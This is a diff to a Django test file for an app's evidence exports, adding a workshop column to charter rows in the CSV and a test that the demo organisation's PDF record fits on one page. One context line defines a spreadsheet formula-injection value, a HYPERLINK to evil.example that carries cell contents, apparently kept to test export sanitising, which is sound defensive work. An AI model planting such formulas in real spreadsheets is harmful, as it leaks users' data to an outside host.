@@ -10,12 +10,18 @@ import io
 import re
 
 import pytest
+from django.core.management import call_command
 from django.template.defaultfilters import yesno
 from django.urls import reverse
 from django.utils import timezone, translation
-from django.utils.translation import pgettext
+from django.utils.translation import ngettext, pgettext
 
-from agreements.evidence import evidence_csv, render_evidence_pdf, shown_count
+from agreements.evidence import (
+    evidence_csv,
+    organisation_evidence,
+    render_evidence_pdf,
+    shown_count,
+)
 from agreements.exports import action_plan_csv, action_plan_xlsx
 from agreements.models import Action, ActionStatus, ReviewPlan
 from principles.render import filename_slug
@@ -28,7 +34,7 @@ from tests.test_charter_pdf import (  # noqa: F401 - no_fetching and weasyprint 
     squeeze,
     weasyprint,
 )
-from workshops.models import Participant, Phase, Role, Workshop
+from workshops.models import Organisation, Participant, Phase, Role, Workshop
 
 NAMES = ["Karen Hemmeligsen", "Jens Diskretesen"]
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
@@ -310,6 +316,9 @@ def test_evidence_csv_lists_workshops_topics_and_charters(organisation, record):
     reviews = sorted(row[9] for row in charters)
     assert reviews == ["2027-11-21 (at the annual work-environment discussion)", "not set"]
     assert {row[8] for row in charters} == {"1"}
+    # Each charter row names its workshop: a series' charters share a title.
+    assert header[10] == "Workshop"
+    assert sorted(row[10] for row in charters) == ["Four in the room", "Twelve in the room"]
 
 
 def test_evidence_csv_in_danish_uses_semicolons(organisation, record):
@@ -319,8 +328,8 @@ def test_evidence_csv_in_danish_uses_semicolons(organisation, record):
         kind = filename_slug(pgettext("file name", "ai-literacy"))
     assert filename == f"{kind}-sygehus-oest.csv"
     header, *rows = read_csv(content, ";")
-    assert len(header) == 10
-    assert all(len(row) == 10 for row in rows)
+    assert len(header) == 11
+    assert all(len(row) == 11 for row in rows)
     assert {"<5", "5", "12"} <= {row[4] for row in rows}
 
 
@@ -420,3 +429,35 @@ def test_organisation_page_links_the_record(organisation, manager_client):
     assert evidence_url(organisation) in page
     assert evidence_url(organisation, "evidence.csv") in page
     assert "Not legal advice" in page
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("no_fetching")
+@pytest.mark.parametrize("language", ["da", "en"])
+def test_the_demo_organisations_record_is_one_page(language):
+    """The demo organisation (a workshop, its follow-up life and a series of
+    three) is a realistic case: four workshops, five charters sharing one
+    title, more cards than a cell can list."""
+    for command in ("demo_workshop", "demo_after_workshop", "demo_series"):
+        call_command(command, stdout=io.StringIO())
+    organisation = Organisation.objects.get()
+    evidence = organisation_evidence(organisation)
+    assert len(evidence.charters) == 5
+    assert len({c.title for c in evidence.charters}) < len(evidence.charters)
+    assert any(group.cards_more for group in evidence.card_groups)
+
+    _name, _type, content = render_evidence_pdf(organisation, language=language)
+
+    pages = pdf_pages(content)
+    assert len(pages) == 1
+    text = squeeze(pages[0])
+    # Rows told apart by their workshop, capped cells say how many more.
+    for charter in evidence.charters:
+        assert squeeze(charter.workshop) in text, charter.workshop
+    with translation.override(language):
+        more = squeeze(
+            ngettext(
+                "and %(n)s more (in the CSV file)", "and %(n)s more (in the CSV file)", 2
+            ).split("%")[0]
+        )
+    assert more in text
